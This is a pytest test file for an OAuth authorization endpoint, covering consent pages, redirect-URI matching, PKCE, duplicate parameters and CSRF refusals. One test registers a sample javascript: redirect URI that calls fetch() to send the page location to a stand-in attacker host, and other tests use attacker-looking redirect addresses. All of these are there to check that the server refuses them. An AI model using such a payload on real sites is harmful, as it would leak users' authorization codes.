"""GET/POST /oauth/authorization: sign-in, consent, codes and refusals (API.md §2)."""
import re
from urllib.parse import quote, urlencode

import pytest
from sqlalchemy import func, select

from seatshare.models import Approval, AuthorizationCode
from seatshare.oauth.error_descriptions import ERROR_DESCRIPTIONS
from seatshare.tokens import hash_token
from tests import factories

from .conftest import REDIRECT_URI, Flow, authorization_url, pkce_pair, query_of

HEX64 = re.compile(r"^[0-9a-f]{64}$")


def code_count(dbsession):
    return dbsession.execute(select(func.count(AuthorizationCode.id))).scalar_one()


def test_not_signed_in_gets_sign_in_page_then_back_to_same_request(flow, testapp):
    url = authorization_url(flow.application.client_id, state="s1")
    response = testapp.get(url, status=302)
    assert response.location == f"http://example.com/signin?next={quote(url, safe='')}"
    page = response.follow()
    assert "Sign in" in page.text
    signed_in = flow.sign_in(next_url=quote(url, safe=""))
    assert signed_in.status_int == 302
    assert signed_in.location == "http://example.com" + url


def test_not_you_signs_out_and_comes_back_to_the_same_request(signed_in_flow, testapp):
    """"Not you?" on the consent page: sign in as someone else, then the
    same authorization request asks them (API.md §2)."""
    url = authorization_url(signed_in_flow.application.client_id, state="s1", scope="read")
    consent = testapp.get(url)
    signed_out = consent.forms["signout"].submit(status=302)
    assert signed_out.location == f"http://example.com/signin?next={quote(url, safe='')}"
    sign_in_page = signed_out.follow()
    assert signed_in_flow.application.name in sign_in_page.html.find(class_="lead").text
    other = factories.make_user()
    form = sign_in_page.forms["signin"]
    form["email"], form["password"] = other.email, factories.DEFAULT_PASSWORD
    back = form.submit(status=302)
    assert back.location == "http://example.com" + url
    consent = back.follow()
    assert other.email in consent.text and signed_in_flow.user.email not in consent.text
    approved = consent.forms["consent"].submit("decision", value="approve", status=302)
    assert query_of(approved.location)["state"] == "s1"


def test_expired_consent_form_links_back_to_the_same_request(signed_in_flow, testapp):
    url = authorization_url(signed_in_flow.application.client_id, state="s1")
    form = testapp.get(url).forms["consent"]
    form["csrf_token"] = "stale"
    expired = form.submit("decision", value="approve", status=400)
    assert "This form has expired" in expired.text
    link = expired.html.find("a", string="Back to the form")["href"]
    assert link == f"/signin?next={quote(url, safe='')}"
    # Still signed in, the sign-in page sends the browser on to the consent page.
    assert testapp.get(link, status=302).location == "http://example.com" + url


def test_consent_page_names_application_and_scopes(signed_in_flow):
    page = signed_in_flow.consent_page(scope="read")
    assert page.status_int == 200
    assert signed_in_flow.application.name in page.text
    assert "Read" in page.text and "Write" not in page.text
    form = page.forms["consent"]
    assert form.method.lower() == "post"
    assert form["csrf_token"].value
    assert {f._value for f in form.fields["decision"]} == {"approve", "deny"}


@pytest.mark.parametrize("redirect_uri, shown", [
    (REDIRECT_URI, "https://client.example.com"),
    ("http://127.0.0.1:8123/callback", "http://127.0.0.1:8123"),
    ("com.example.seats:/oauth2redirect", "com.example.seats"),
])
def test_consent_page_says_where_either_answer_goes(testapp, user, redirect_uri, shown):
    """An application's name is whatever was registered: the page also
    names the address Approve and Deny both send the user back to (its
    origin; a native app's own scheme)."""
    application, _ = factories.make_application(redirect_uris=[redirect_uri])
    flow = Flow(testapp, application, None, user)
    assert flow.sign_in().status_int == 302
    page = flow.consent_page(redirect_uri=redirect_uri)
    line = page.html.find("form", id="consent").find("p")
    assert line.text == f"Either answer takes you back to {shown}."
    assert line.find_next_sibling(class_="actions")


def test_each_scope_on_the_consent_page_reads_on_its_own(signed_in_flow):
    """An application may ask for write alone: its line cannot lean on read's."""
    page = signed_in_flow.consent_page(scope="write")
    [scope] = page.html.select("ul.scopes li")
    assert scope.strong.text == "Write"
    assert scope.span.text == (
        "Make changes for you: update your tickets, answer ticket requests, "
        "manage your groups")


def test_consent_page_lists_a_repeated_scope_once_in_a_fixed_order(signed_in_flow):
    page = signed_in_flow.consent_page(scope="write read read")
    names = [li.strong.text for li in page.html.select("ul.scopes li")]
    assert names == ["Read", "Write"]


def test_consent_page_cannot_be_framed(signed_in_flow):
    page = signed_in_flow.consent_page()
    assert page.headers["X-Frame-Options"] == "DENY"
    assert "frame-ancestors 'none'" in page.headers["Content-Security-Policy"]
    assert page.headers["Referrer-Policy"] == "no-referrer"
    assert page.headers["Cache-Control"] == "no-store"


def test_approve_redirects_with_code_and_state(signed_in_flow, dbsession):
    result = signed_in_flow.approve(state="abc 123")
    assert result["state"] == "abc 123"
    assert HEX64.match(result["code"])
    stored = dbsession.execute(select(AuthorizationCode)).scalar_one()
    assert stored.code_hash == hash_token(result["code"])
    assert result["code"] not in repr(
        [getattr(stored, c.key) for c in AuthorizationCode.__table__.columns]
    )


def test_approve_without_state_has_no_state(signed_in_flow):
    result = signed_in_flow.approve()
    assert set(result) == {"code"}


def test_an_empty_scope_is_no_scope_read_and_write(signed_in_flow, dbsession):
    """RFC 6749 §3.1: a parameter sent without a value is treated as omitted;
    API.md §2: without scopes, both."""
    page = signed_in_flow.consent_page(scope="", state="e")
    assert "Read" in page.text and "Write" in page.text
    result = signed_in_flow.approve(scope="", state="e")
    assert set(result) == {"code", "state"}
    assert dbsession.execute(select(AuthorizationCode.scopes)).scalar_one() == "read write"
    assert signed_in_flow.exchange(result["code"]).json["scope"] == "read write"


def test_an_empty_response_type_is_missing(signed_in_flow, testapp):
    """RFC 6749 §3.1: missing (``invalid_request``), not an unknown type."""
    url = authorization_url(signed_in_flow.application.client_id, response_type="", state="m")
    response = testapp.get(url, status=302)
    assert query_of(response.location) == {
        "error": "invalid_request", "state": "m",
        "error_description": "Missing response_type parameter."}


def test_an_empty_code_challenge_is_no_challenge(signed_in_flow, testapp):
    """RFC 6749 §3.1: ``code_challenge=`` is no challenge. A confidential
    client gets a code without PKCE (it was refused as a malformed
    challenge); a public one is still told to send one."""
    code = signed_in_flow.code(code_challenge="", code_challenge_method="")
    assert signed_in_flow.exchange(code).status_int == 200
    public, _ = factories.make_application(confidential=False, redirect_uris=[REDIRECT_URI])
    url = authorization_url(public.client_id, code_challenge="", code_challenge_method="S256")
    response = testapp.get(url, status=302)
    assert query_of(response.location) == {"error": "invalid_request",
                                           "error_description": "Code challenge required."}


def test_deny_redirects_with_access_denied(signed_in_flow, dbsession):
    page = signed_in_flow.consent_page(state="st")
    response = page.forms["consent"].submit("decision", value="deny", status=302)
    assert response.location.startswith(REDIRECT_URI + "?")
    assert query_of(response.location) == {
        "error": "access_denied", "error_description": "The user denied the request.",
        "state": "st"}
    assert code_count(dbsession) == 0


def test_approval_is_remembered_per_user_application_and_scopes(signed_in_flow, testapp):
    signed_in_flow.approve(scope="read")
    again = signed_in_flow.consent_page(scope="read", state="x")
    assert again.status_int == 302
    assert query_of(again.location)["state"] == "x"
    assert "code" in query_of(again.location)
    # Other scopes: asked again.
    assert signed_in_flow.consent_page(scope="read write").status_int == 200
    # Another user: asked again.
    testapp.reset()
    signed_in_flow.user = factories.make_user()
    signed_in_flow.sign_in()
    assert signed_in_flow.consent_page(scope="read").status_int == 200


def test_deny_remembers_nothing(signed_in_flow, dbsession):
    page = signed_in_flow.consent_page()
    # And the page says only an approval is remembered.
    assert page.html.find("footer").text.split(";")[0] == (
        "If you approve, SeatShare remembers it and this app will not ask again")
    page.forms["consent"].submit("decision", value="deny")
    assert dbsession.execute(select(func.count(Approval.id))).scalar_one() == 0
    assert signed_in_flow.consent_page().status_int == 200


def test_trusted_application_skips_consent(flow, dbsession):
    flow.application.trusted = True
    dbsession.flush()
    flow.sign_in()
    response = flow.consent_page(state="t")
    assert response.status_int == 302
    assert HEX64.match(query_of(response.location)["code"])


def test_unknown_client_id_is_an_html_400_never_a_redirect(flow, testapp):
    response = testapp.get(authorization_url("nope", state="s"), status=400)
    assert "Location" not in response.headers
    assert response.content_type == "text/html"
    assert "not registered" in response.text


def test_disabled_application_is_an_html_400(flow, testapp, dbsession):
    flow.application.disabled = True
    dbsession.flush()
    response = testapp.get(authorization_url(flow.application.client_id), status=400)
    assert "Location" not in response.headers


def test_redirect_uri_must_match_exactly(signed_in_flow, testapp):
    client_id = signed_in_flow.application.client_id
    for near_miss in (
        REDIRECT_URI + "/",
        REDIRECT_URI + "?x=1",
        REDIRECT_URI.upper(),
        "https://client.example.com/callbackx",
        "https://evil.example.com/callback",
        "/callback",
    ):
        response = testapp.get(authorization_url(client_id, near_miss), status=400)
        assert "Location" not in response.headers, near_miss
        assert response.content_type == "text/html"


def test_a_registered_javascript_redirect_uri_is_never_redirected_to(testapp, dbsession):
    """Registered before app create refused such schemes: a code sent there
    would run in the browser (RFC 9700 §4.1.3)."""
    uri = "javascript:fetch('//evil.example/?'+location)//"
    application, _ = factories.make_application(redirect_uris=[uri])
    user = factories.make_user()
    dbsession.flush()
    testapp.post("/signin", {"email": user.email, "password": factories.DEFAULT_PASSWORD,
                             "csrf_token": testapp.get("/signin").forms["signin"]["csrf_token"].value})
    response = testapp.get(authorization_url(application.client_id, uri), status=400)
    assert "Location" not in response.headers
    assert response.content_type == "text/html"


def test_missing_redirect_uri_is_an_html_400(flow, testapp):
    url = f"/oauth/authorization?client_id={flow.application.client_id}&response_type=code"
    assert "Location" not in testapp.get(url, status=400).headers


def test_other_errors_are_redirected_to_the_client(signed_in_flow, testapp):
    client_id = signed_in_flow.application.client_id
    cases = {
        "unsupported_response_type": {"response_type": "token"},
        "invalid_scope": {"scope": "admin"},
        "invalid_request": {"code_challenge": "abc", "code_challenge_method": "plain"},
    }
    for error, params in cases.items():
        response = testapp.get(authorization_url(client_id, state="q", **params), status=302)
        assert response.location.startswith(REDIRECT_URI + "?")
        assert query_of(response.location)["error"] == error
        assert query_of(response.location)["state"] == "q"


def test_every_redirected_error_has_a_description_from_the_token_endpoints_table(
        signed_in_flow, testapp):
    """RFC 6749 §4.1.2.1: ``error_description`` helps the client's developer.
    The token endpoint filled it in from one table for the errors oauthlib
    raises without one; the redirect sent ``unsupported_response_type`` and
    ``access_denied`` bare. One table serves both now."""
    url = authorization_url(signed_in_flow.application.client_id, response_type="token")
    refused = query_of(testapp.get(url, status=302).location)
    assert refused["error_description"] == ERROR_DESCRIPTIONS["unsupported_response_type"]
    page = signed_in_flow.consent_page()
    denied = query_of(page.forms["consent"].submit("decision", value="deny").location)
    assert denied["error_description"] == ERROR_DESCRIPTIONS["access_denied"]



def test_a_bad_response_type_is_told_before_a_plain_challenge(signed_in_flow, testapp):
    """RFC 6749 §4.1.2.1: both are errors; the response type is checked
    first, as oauthlib checks it, since PKCE's S256-only rule lives in the
    code grant's table of methods alone. It was invalid_request saying to
    send S256, the challenge having been checked first."""
    url = authorization_url(signed_in_flow.application.client_id, state="q",
                            response_type="token", code_challenge="a" * 43,
                            code_challenge_method="plain")
    refused = query_of(testapp.get(url, status=302).location)
    assert (refused["error"], refused["state"]) == ("unsupported_response_type", "q")
    assert refused["error_description"] == ERROR_DESCRIPTIONS["unsupported_response_type"]


@pytest.mark.parametrize("scope", ["admin", "read,write", "read write admin"])
def test_an_unknown_scope_is_redirected_naming_the_scopes_there_are(signed_in_flow, testapp,
                                                                     scope):
    """``invalid_scope`` came back alone: a developer who wrote GitHub's
    ``read,write`` was not told what to send. RFC 6749 §4.1.2.1's
    ``error_description`` says it."""
    url = authorization_url(signed_in_flow.application.client_id, state="q", scope=scope)
    query = query_of(testapp.get(url, status=302).location)
    assert query["error"] == "invalid_scope" and query["state"] == "q"
    assert query["error_description"] == (
        "The scopes are read and write, separated by spaces.")


# A query as a client registers it, not as urlencode would write it: a key
# without a value (Meteor's "?close"), a space as %20, an empty pair.
QUERY_REDIRECT_URI = "https://client.example.com/callback?close&tenant=a%20b&&x=%7E"


@pytest.mark.parametrize("method", ["GET", "HEAD"])
def test_a_redirect_uris_query_is_kept_as_registered(testapp, dbsession, method):
    """RFC 6749 §3.1.2: the redirect URI's query "MUST be retained when
    adding additional query parameters": the code and state come after it,
    and it stays as written; oauthlib wrote it again as urlencode would
    ("?close=&tenant=a+b&x=~"). Errors and a denial too (§4.1.2.1)."""
    application, _ = factories.make_application(redirect_uris=[QUERY_REDIRECT_URI])
    flow = Flow(testapp, application, None, factories.make_user())
    dbsession.flush()
    flow.sign_in()
    url = authorization_url(application.client_id, QUERY_REDIRECT_URI, state="s 1")
    denied = testapp.get(url).forms["consent"].submit("decision", value="deny", status=302)
    assert denied.location == (QUERY_REDIRECT_URI + "&error=access_denied"
                               "&error_description=The+user+denied+the+request.&state=s+1")
    approved = testapp.get(url).forms["consent"].submit("decision", value="approve", status=302)
    code = query_of(approved.location)["code"]
    assert approved.location == f"{QUERY_REDIRECT_URI}&code={code}&state=s+1"
    remembered = (testapp.get if method == "GET" else testapp.head)(url, status=302)
    if method == "GET":
        code = query_of(remembered.location)["code"]
        assert remembered.location == f"{QUERY_REDIRECT_URI}&code={code}&state=s+1"
    else:  # HEAD issues no code
        assert remembered.location == QUERY_REDIRECT_URI + "&state=s+1"
    refused = testapp.get(url + "&scope=admin", status=302)
    assert refused.location.startswith(QUERY_REDIRECT_URI + "&error=invalid_scope&")

@pytest.mark.parametrize("response_type", ["token", "code token", "code id_token", "none",
                                           "id_token"])
def test_a_response_type_other_than_code_is_unsupported_response_type(
        signed_in_flow, testapp, response_type):
    """RFC 6749 §4.1.2.1: the server does not issue anything but a code
    (the metadata's ``response_types_supported``). oauthlib let the ones
    containing "code", and "none", reach ``validate_response_type`` and
    answered ``unauthorized_client``, as if another client could use them."""
    url = authorization_url(signed_in_flow.application.client_id, state="r",
                            response_type=response_type)
    response = testapp.get(url, status=302)
    assert response.location.startswith(REDIRECT_URI + "?")
    assert query_of(response.location) == {
        "error": "unsupported_response_type",
        "error_description": "The only response_type is code.", "state": "r"}


@pytest.mark.parametrize("name", ["code_challenge", "code_challenge_method", "response_mode",
                                  "response_type", "scope"])
def test_a_repeated_parameter_is_redirected_as_invalid_request(signed_in_flow, testapp, name):
    """RFC 6749 §3.1: no parameter twice. Once the client and redirect_uri
    are known good, the error is redirected (§4.1.2.1, API.md §2: only an
    unknown client or redirect_uri is an HTML page); oauthlib refused a
    repeated response_type or scope on its HTML page before it knew them."""
    _, challenge = pkce_pair()
    values = {"code_challenge": challenge, "code_challenge_method": "S256",
              "response_mode": "fragment", "response_type": "code", "scope": "read"}
    url = authorization_url(signed_in_flow.application.client_id, state="d", **values)
    response = testapp.get(f"{url}&{name}={values[name]}", status=302)
    assert response.location.startswith(REDIRECT_URI + "?")
    assert query_of(response.location) == {"error": "invalid_request", "state": "d",
                                           "error_description": f"Duplicate {name} parameter."}


def test_a_repeated_state_is_redirected_without_a_state(signed_in_flow, testapp):
    """Which of the two would the client check? Neither is echoed: the
    client refuses the answer as it would any without its state."""
    url = authorization_url(signed_in_flow.application.client_id, state="one",
                            response_mode="fragment")
    response = testapp.get(f"{url}&state=two", status=302)
    assert response.location.startswith(REDIRECT_URI + "?")
    assert query_of(response.location) == {"error": "invalid_request",
                                           "error_description": "Duplicate state parameter."}


@pytest.mark.parametrize("name", ["client_id", "redirect_uri"])
@pytest.mark.parametrize("also", ["", "&scope=read&scope=write"])
def test_a_repeated_client_id_or_redirect_uri_is_an_html_400(signed_in_flow, testapp, name, also):
    """Two of them leave no address the error could be trusted to."""
    url = authorization_url(signed_in_flow.application.client_id, state="s")
    value = {"client_id": signed_in_flow.application.client_id, "redirect_uri": REDIRECT_URI}
    response = testapp.get(f"{url}&{urlencode({name: value[name]})}{also}", status=400)
    assert "Location" not in response.headers
    assert response.content_type == "text/html"


@pytest.mark.parametrize("repeated", ["response_type=code", "scope=read", "state=two"])
@pytest.mark.parametrize("client", ["no client_id", "an unknown client_id",
                                    "an unregistered redirect_uri", "no redirect_uri"])
def test_a_repeated_parameter_beside_a_bad_client_or_redirect_uri_is_an_html_400(
        signed_in_flow, testapp, repeated, client):
    """A repeated response_type, scope or state is redirected only once the
    client and its redirect_uri are known good: beside a client or a
    redirect_uri that is not, it is the HTML page, never a redirect to an
    address nobody registered (API.md §2, RFC 6749 §4.1.2.1)."""
    query = {"client_id": signed_in_flow.application.client_id, "redirect_uri": REDIRECT_URI,
             "response_type": "code", "state": "one"}
    if client == "no client_id":
        del query["client_id"]
    elif client == "an unknown client_id":
        query["client_id"] = "0" * 32
    elif client == "an unregistered redirect_uri":
        query["redirect_uri"] = "https://attacker.example/cb"
    else:
        del query["redirect_uri"]
    response = testapp.get(f"/oauth/authorization?{urlencode(query)}&{repeated}", status=400)
    assert "Location" not in response.headers
    assert response.content_type == "text/html"


@pytest.mark.parametrize("response_mode", ["fragment", "form_post", "query"])
def test_code_and_errors_always_come_back_in_the_query(signed_in_flow, testapp, response_mode):
    """API.md §2 and the metadata's ``response_modes_supported``: the query
    only. A link asking for ``response_mode=fragment`` would put the code
    where the client's callback does not read it and every later redirect
    carries it along (RFC 9700 §4.1.3)."""
    client_id = signed_in_flow.application.client_id
    page = signed_in_flow.consent_page(response_mode=response_mode, state="f")
    approved = page.forms["consent"].submit("decision", value="approve")
    remembered = testapp.get(authorization_url(client_id, response_mode=response_mode,
                                               state="f"), status=302)
    refused = testapp.get(authorization_url(client_id, response_mode=response_mode,
                                            state="f", scope="admin"), status=302)
    for response in (approved, remembered, refused):
        assert response.location.startswith(REDIRECT_URI + "?")
        assert "#" not in response.location
        assert query_of(response.location)["state"] == "f"
    assert "code" in query_of(approved.location) and "code" in query_of(remembered.location)
    assert query_of(refused.location)["error"] == "invalid_scope"


@pytest.mark.parametrize("method", [None, "plain", "s256", "S512"])
def test_challenge_without_method_means_plain_and_is_refused(signed_in_flow, testapp, method):
    """RFC 7636 §4.3: without a method the challenge is ``plain``, which is
    refused as any but ``S256`` is; the description says to send S256,
    where oauthlib's said "Transform algorithm not supported." to a client
    that had named none."""
    params = {"code_challenge": "a" * 43, "state": "p"}
    if method is not None:
        params["code_challenge_method"] = method
    url = authorization_url(signed_in_flow.application.client_id, **params)
    query = query_of(testapp.get(url, status=302).location)
    assert query["error"] == "invalid_request" and query["state"] == "p"
    assert query["error_description"] == (
        "Send code_challenge_method=S256: it is the only method accepted, and a "
        "code_challenge without one is plain.")


def test_public_application_must_send_a_code_challenge(testapp, user):
    application, secret = factories.make_application(confidential=False)
    assert secret is None
    url = authorization_url(application.client_id)
    response = testapp.get(url, status=302)
    assert query_of(response.location)["error"] == "invalid_request"
    _, challenge = pkce_pair()
    url = authorization_url(
        application.client_id, code_challenge=challenge, code_challenge_method="S256"
    )
    assert testapp.get(url, status=302).location.startswith("http://example.com/signin")


def test_consent_post_without_csrf_token_is_refused(signed_in_flow, testapp, dbsession):
    page = signed_in_flow.consent_page()
    url = page.forms["consent"].action
    response = testapp.post(url, {"decision": "approve"}, status=400)
    assert "Location" not in response.headers
    response = testapp.post(url, {"decision": "approve", "csrf_token": "x" * 40}, status=400)
    assert code_count(dbsession) == 0


def test_consent_post_signed_out_goes_to_sign_in(flow, testapp, dbsession):
    page = testapp.get("/signin")
    token = page.forms["signin"]["csrf_token"].value
    url = authorization_url(flow.application.client_id)
    response = testapp.post(url, {"decision": "approve", "csrf_token": token}, status=302)
    assert response.location.startswith("http://example.com/signin?next=")
    assert code_count(dbsession) == 0


def test_code_lives_at_most_ten_minutes(signed_in_flow, dbsession, app):
    signed_in_flow.approve()
    stored = dbsession.execute(select(AuthorizationCode)).scalar_one()
    lifetime = (stored.expires_at - stored.created_at).total_seconds()
    assert 590 <= lifetime <= 600


def test_code_challenge_must_look_like_one(signed_in_flow, testapp):
    client_id = signed_in_flow.application.client_id
    for challenge in ("short", "a" * 129, "a" * 42 + "\x00", "a" * 42 + "/", "a" * 43 + "\n"):
        url = authorization_url(client_id, code_challenge=challenge,
                                code_challenge_method="S256", state="c")
        response = testapp.get(url, status=302)
        assert query_of(response.location)["error"] == "invalid_request"


def test_remembered_approval_query_count(signed_in_flow, query_counter):
    signed_in_flow.approve()
    query_counter.reset()
    assert signed_in_flow.consent_page().status_int == 302
    # the client, the signed-in user, the approval, the new code
    assert query_counter.count == 4, query_counter.statements
